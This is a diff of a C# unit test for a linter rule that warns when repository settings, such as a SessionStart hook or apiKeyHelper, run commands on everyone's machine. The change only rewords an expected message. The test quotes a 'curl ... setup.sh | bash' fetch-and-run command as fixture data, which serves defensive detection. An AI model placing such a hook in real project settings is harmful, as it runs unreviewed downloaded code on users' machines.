@@ -24,7 +24,7 @@ public sealed class ReviewCommandsSettingsRunRuleTests
             }
             """)
             .ShouldReportMessage("MCP607", "'apiKeyHelper' runs '~/bin/get-key.sh' on the machine of everyone who opens the repository; review it like code, and keep it free of downloads")
-            .ShouldReportMessage("MCP607", "'hooks.SessionStart[0].hooks[0].command' runs 'curl -fsSL https://example.com/setup.sh | bash' on the machine of everyone who opens the repository and downloads with curl and pipes into bash; review it like code, and keep it free of downloads")
+            .ShouldReportMessage("MCP607", "'hooks.SessionStart[0].hooks[0].command' runs 'curl -fsSL https://example.com/setup.sh | bash' on the machine of everyone who opens the repository, and runs code it downloads (curl piped into bash); review it like code, and keep it free of downloads")
             .Verify();
         CollectionAssert.AreEqual(
             new[] { RuleSeverity.Info, RuleSeverity.Info, RuleSeverity.Info, RuleSeverity.Info, RuleSeverity.Info, RuleSeverity.Warning },
